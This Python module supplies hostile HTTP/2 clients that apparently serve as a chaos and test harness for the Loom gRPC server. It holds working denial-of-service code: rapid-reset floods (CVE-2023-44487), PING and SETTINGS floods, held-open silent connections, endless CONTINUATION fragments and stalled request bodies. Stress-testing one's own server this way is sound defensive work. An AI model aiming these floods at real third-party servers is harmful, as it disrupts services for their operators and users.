"""Hostile HTTP/2 clients: raw sockets and frames made by hand, doing what no gRPC library would
let a client do. `loom chaos` runs them as scenarios (loom/chaos/hostile.py) and the wire
tests run them against Loom (tests/server/grpc/test_boundary.py). Each is synchronous, for a
thread of its own, and bounded in count and time; each says what it saw: how much it sent,
whether and how the server cut it off (a GOAWAY's error code and debug data, or the
connection closed or reset).

- `rapid_reset`: HEADERS + RST_STREAM pairs on one connection, fast as it goes (CVE-2023-44487).
- `control_flood`: PING or SETTINGS frames, each owing an answer, from a peer that reads
  nothing (or everything).
- `silent_connections`: connections that never send the HTTP/2 preface (or send it and then
  nothing), held open from one source address.
- `header_fragments`: a header block begun and never finished, one fragment at a time.
- `declared_bodies`: streams whose request message declares `declared` bytes, of which they
  send all but the last.
"""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator

import attrs
import h2.connection
import h2.events

from loom.client.frames import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    ERROR_CODES,
    GENERATE,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    connect,
    frame,
    request_block,
)


@attrs.define
class CutOff:
    """How the server ended an attacker's connection, as the attacker saw it."""

    goaway: str | None = None  # the GOAWAY's error code's name
    debug: str = ""  # its debug data: the server's reason
    closed: bool = False  # the connection was closed (or reset)
    seconds: float | None = None  # from the attack's start to the GOAWAY, or the close

    def __str__(self) -> str:
        return f"GOAWAY {self.goaway}" if self.goaway else "closed" if self.closed else "still open"


@attrs.define
class Report:
    sent: int = 0  # frames (or pairs, streams, connections) sent before it stopped
    cut_off: CutOff = attrs.field(factory=CutOff)
    seconds: float = 0.0


class Listener(threading.Thread):
    """Reads a connection to its end, noting a GOAWAY and the close."""

    def __init__(self, sock: socket.socket, start: float) -> None:
        super().__init__(daemon=True)
        self.sock, self.start_time, self.cut_off = sock, start, CutOff()
        self.done = threading.Event()

    def run(self) -> None:
        buffer = b""
        try:
            while chunk := self.sock.recv(65536):
                buffer = self.frames(buffer + chunk)
        except OSError:
            pass
        self.cut_off.closed = True
        if self.cut_off.seconds is None:
            self.cut_off.seconds = time.monotonic() - self.start_time
        self.done.set()

    def frames(self, buffer: bytes) -> bytes:
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            if buffer[3] == GOAWAY and self.cut_off.goaway is None:
                code = int.from_bytes(buffer[13:17], "big")
                self.cut_off.goaway = ERROR_CODES.get(code, str(code))
                self.cut_off.debug = buffer[17 : 9 + length].decode(errors="replace")
                self.cut_off.seconds = time.monotonic() - self.start_time
            buffer = buffer[9 + length :]
        return buffer


def flood(
    host: str, port: int, batches: Iterator[tuple[int, bytes]], seconds: float, read: bool
) -> Report:
    """Send `batches` after the preface until they run out, the server cuts the connection
    off, or `seconds` pass; reading meanwhile (`read`) or only at the end."""
    start = time.monotonic()
    report = Report()
    sock = connect(host, port, timeout=seconds)
    listener = Listener(sock, start)
    if read:
        listener.start()
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for count, batch in batches:
            if listener.cut_off.goaway is not None or time.monotonic() - start > seconds:
                break
            sock.sendall(batch)
            report.sent += count
    except OSError:  # reset, closed, or (not read) blocked past the timeout
        pass
    report.seconds = time.monotonic() - start
    if not read:
        sock.settimeout(2.0)
        listener.start()
    listener.done.wait(timeout=5.0)
    report.cut_off = listener.cut_off
    sock.close()
    return report


def rapid_reset(
    host: str, port: int, pairs: int = 100_000, batch: int = 1000, seconds: float = 30.0
) -> Report:
    """Open and at once reset `pairs` streams on one connection: HEADERS, RST_STREAM(CANCEL)."""
    block = request_block(f"{host}:{port}")
    reset = CANCEL.to_bytes(4, "big")

    def batches() -> Iterator[tuple[int, bytes]]:
        for first in range(0, pairs, batch):
            ids = range(2 * first + 1, 2 * min(first + batch, pairs) + 1, 2)
            data = b"".join(
                frame(HEADERS, END_HEADERS, i, block) + frame(RST_STREAM, 0, i, reset) for i in ids
            )
            yield len(ids), data

    return flood(host, port, batches(), seconds, read=True)


def control_flood(
    host: str,
    port: int,
    frames: int = 200_000,
    kind: str = "ping",
    read: bool = False,
    seconds: float = 10.0,
) -> Report:
    """`frames` PINGs (or empty SETTINGS), each owing the peer an answer."""
    one = frame(PING, 0, 0, b"floodfld") if kind == "ping" else frame(SETTINGS, 0, 0)

    def batches() -> Iterator[tuple[int, bytes]]:
        for first in range(0, frames, 1000):
            count = min(1000, frames - first)
            yield count, one * count

    return flood(host, port, batches(), seconds, read)


def silent_connections(
    host: str, port: int, count: int, source: str | None = None, preface: bool = False
) -> list[socket.socket]:
    """`count` connections that send nothing (or just the preface), held open; those the
    server would not take are left out (refused, or reset at once)."""
    held = []
    for _ in range(count):
        try:
            sock = connect(host, port, source)
            if preface:
                sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        except OSError:
            continue
        held.append(sock)
    return held


def when_closed(
    socks: list[socket.socket], seconds: float, since: float | None = None
) -> list[float | None]:
    """Each connection's seconds from `since` (a `time.monotonic()` from before it was opened;
    default now) until the server closed it (None: open `seconds` after), reading what it sends."""
    start = time.monotonic() if since is None else since
    closed: list[float | None] = [None] * len(socks)
    for sock in socks:
        sock.setblocking(False)
    while None in closed and time.monotonic() - start < seconds:
        for i, sock in enumerate(socks):
            if closed[i] is None and gone(sock):
                closed[i] = time.monotonic() - start
        time.sleep(0.01)
    for sock in socks:
        sock.close()
    return closed


def gone(sock: socket.socket) -> bool:
    try:
        while sock.recv(65536):
            pass
        return True  # b"": closed
    except BlockingIOError:
        return False
    except OSError:
        return True  # reset


def header_fragments(
    host: str, port: int, count: int, fragments: int, size: int = 1024, source: str | None = None
) -> list[socket.socket]:
    """`count` connections, each with a header block begun (HEADERS without END_HEADERS) and
    grown by `fragments` CONTINUATIONs of `size` bytes, never finished."""
    block = request_block(f"{host}:{port}")
    data = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, block)
    data += b"".join(frame(CONTINUATION, 0, 1, b"\x00" * size) for _ in range(fragments))
    held = []
    for _ in range(count):
        sock = connect(host, port, source)
        with contextlib.suppress(OSError):  # cut off before it had sent it all
            sock.sendall(data)
        held.append(sock)
    return held


def declared_bodies(
    host: str, port: int, streams: int, declared: int, seconds: float = 30.0
) -> dict[int, str]:
    """Open `streams` Generate streams on one connection at once, each declaring a request
    message of `declared` bytes and sending all of it but the last byte, as fast as the
    server's windows allow. The grpc-status (or "reset") each stream ended with; "open" for
    those still open after `seconds`."""
    connection = h2.connection.H2Connection()
    connection.initiate_connection()
    authority = f"{host}:{port}"
    headers = [(":method", "POST"), (":scheme", "http"), (":path", GENERATE)]
    headers += [(":authority", authority), ("content-type", "application/grpc"), ("te", "trailers")]
    left = {}
    for i in range(streams):
        connection.send_headers(2 * i + 1, headers)
        left[2 * i + 1] = b"\x00" + declared.to_bytes(4, "big") + b"\x00" * (declared - 1)
    statuses: dict[int, str] = {}
    sock = connect(host, port, timeout=1.0)
    start = time.monotonic()
    try:
        while len(statuses) < streams and time.monotonic() - start < seconds:
            send_what_fits(connection, left, statuses)
            sock.sendall(connection.data_to_send())
            try:
                data = sock.recv(65536)
            except TimeoutError:
                continue
            if not data:
                break
            for event in connection.receive_data(data):
                ended(event, statuses, left)
    finally:
        sock.close()
    return {i: statuses.get(2 * i + 1, "open") for i in range(streams)}


def send_what_fits(
    connection: h2.connection.H2Connection, left: dict[int, bytes], statuses: dict[int, str]
) -> None:
    for stream_id, data in list(left.items()):
        if stream_id in statuses:
            continue
        window = min(connection.local_flow_control_window(stream_id), 16384)
        if window > 0 and data:
            connection.send_data(stream_id, data[:window])
            left[stream_id] = data[window:]


def ended(event: object, statuses: dict[int, str], left: dict[int, bytes]) -> None:
    if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
        status = dict(event.headers).get(b"grpc-status")
        if status is not None:
            statuses[event.stream_id] = status.decode()
            left.pop(event.stream_id, None)
    elif isinstance(event, h2.events.StreamReset):
        statuses.setdefault(event.stream_id, "reset")
        left.pop(event.stream_id, None)
